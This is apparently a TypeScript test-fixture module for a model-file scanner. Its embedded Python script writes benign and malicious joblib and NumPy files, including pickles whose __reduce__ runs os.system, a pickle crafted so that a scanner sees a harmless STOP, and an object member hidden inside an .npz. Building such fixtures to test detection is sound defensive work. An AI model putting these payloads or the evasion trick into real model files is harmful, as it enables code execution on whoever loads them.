// Joblib and NumPy files written by the real libraries (in a venv, see
// python.ts): ordinary dumps, attacks, and proof that loading the attacks
// runs their code (each attack touches a marker file when loaded).
import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { usePythonVenv, type PythonEnv } from './python.ts';

export const JOBLIB_PACKAGES = ['numpy', 'joblib'];

const SCRIPT = String.raw`
import io, os, struct, sys, zipfile
import numpy as np, joblib, joblib.numpy_pickle as jnp

out = sys.argv[1]
marker = lambda name: os.path.join(out, 'ran-' + name)

class Run:
    """Unpickling this runs os.system('touch <marker>')."""
    def __init__(self, name): self.path = marker(name)
    def __reduce__(self): return (os.system, ('touch ' + self.path,))

def load(path):
    try: joblib.load(path)
    except Exception: pass  # the code ran (or not) before any error

# Structured dtypes with object fields: field, after a float field, nested, subarray.
DTYPES = {
    'field': [('a', 'O')],
    'mixed': [('x', '<f8'), ('a', 'O')],
    'nested': [('s', [('b', 'O'), ('c', '<i4')])],
    'subarray': [('a', 'O', (2,))],
}

# 1. Ordinary joblib dumps of such arrays holding harmless objects, followed by a plain array.
for name, dt in DTYPES.items():
    a = np.zeros(3, dtype=dt)
    path = os.path.join(out, 'benign-%s.joblib' % name)
    joblib.dump({'arr': a, 'w': np.arange(6.0).reshape(2, 3)}, path)
    back = joblib.load(path)
    assert repr(back['arr']) == repr(a) and back['w'].shape == (2, 3), name

# 2. The ordinary dump of an object whose __reduce__ is os.system, in an object field.
a = np.empty(1, dtype=[('a', 'O')])
a[0]['a'] = Run('attack')
joblib.dump(a, os.path.join(out, 'attack.joblib'))
load(os.path.join(out, 'attack.joblib'))

# 3. The same wrapper, followed by a pickle shaped so that a scanner taking the V8
#    dtype as raw data (a padding byte, padding, 8 bytes) lands on a harmless STOP,
#    while joblib unpickles it: a BINBYTES string covers the landing spot.
cmd = ('touch ' + marker('crafted')).encode()
content = bytearray(140)
land = 1 + 0x80 + 8              # padding length = the nested pickle's first byte, PROTO
content[land - 7:land - 5] = b'.\xff'   # STOP, then a byte that is no opcode
nested = (b'\x80\x04B' + struct.pack('<I', len(content)) + bytes(content) + b'0'
          + b'cos\nsystem\n' + b'X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.')
assert nested[land:land + 2] == b'.\xff'
original = jnp.NumpyArrayWrapper.write_array
jnp.NumpyArrayWrapper.write_array = lambda self, array, pickler: pickler.file_handle.write(nested)
a = np.empty(1, dtype=[('a', 'O')])
joblib.dump(a, os.path.join(out, 'crafted.joblib'))
jnp.NumpyArrayWrapper.write_array = original
load(os.path.join(out, 'crafted.joblib'))

# 4. .npy of the same dtypes (np.save pickles their objects).
for name, dt in DTYPES.items():
    np.save(os.path.join(out, '%s.npy' % name), np.zeros(2, dtype=dt), allow_pickle=True)

# 5. An .npz whose object array member has no .npy suffix: np.load(...)['evil'] reads it all the same.
buf = io.BytesIO()
a = np.empty(1, dtype=object)
a[0] = Run('npz')
np.lib.format.write_array(buf, a, allow_pickle=True)
path = os.path.join(out, 'hidden.npz')
np.savez(path, w=np.arange(4.0))
with zipfile.ZipFile(path, 'a') as z:
    z.writestr('evil', buf.getvalue())
with np.load(path, allow_pickle=True) as z:
    assert sorted(z.files) == ['evil', 'w']
    z['evil']
print('ok')
`;

export interface PythonJoblibFixtures {
  py: PythonEnv;
  dir: string;
  /** the structured dtypes with object fields, by name: field, mixed, nested, subarray */
  dtypes: string[];
  file(name: string): Uint8Array;
  /** whether loading the attack named `name` (attack, crafted, npz) ran its code */
  ran(name: string): boolean;
}

/** Writes the files with numpy and joblib, and loads the attacks once. */
export async function pythonJoblibFixtures(env: PythonEnv): Promise<PythonJoblibFixtures> {
  const dir = await mkdtemp(join(tmpdir(), 'cairn-joblib-'));
  const { stdout } = await env.run(SCRIPT, [dir]);
  if (stdout.trim() !== 'ok') throw new Error(`fixture script said ${stdout}`);
  return {
    py: env,
    dir,
    dtypes: ['field', 'mixed', 'nested', 'subarray'],
    file: (name) => readFileSync(join(dir, name)),
    ran: (name) => existsSync(join(dir, `ran-${name}`)),
  };
}

/**
 * For a suite: registers the venv's `before` hook (see usePythonVenv); `get(t)`
 * builds the files once, or skips the test (outside CI) when there is no venv.
 */
export function useJoblibFixtures(): { get(t: TestContext): Promise<PythonJoblibFixtures | undefined> } {
  const venv = usePythonVenv(JOBLIB_PACKAGES);
  let built: Promise<PythonJoblibFixtures> | undefined;
  return {
    async get(t) {
      const py = venv.get(t);
      if (!py) return undefined;
      built ??= pythonJoblibFixtures(py);
      return built;
    },
  };
}

/**
 * Loads each file with joblib.load, each in its own process (some crash it);
 * returns the names whose load ran `touch <dir>/ran-<name>`.
 */
export async function joblibLoadRuns(env: PythonEnv, dir: string, files: Record<string, Uint8Array>): Promise<string[]> {
  const ran: string[] = [];
  for (const [name, bytes] of Object.entries(files)) {
    const path = join(dir, `${name}.joblib`);
    await writeFile(path, bytes);
    await env.run('import joblib, sys\ntry: joblib.load(sys.argv[1])\nexcept Exception: pass', [path]).catch(() => undefined);
    if (existsSync(join(dir, `ran-${name}`))) ran.push(name);
  }
  return ran;
}
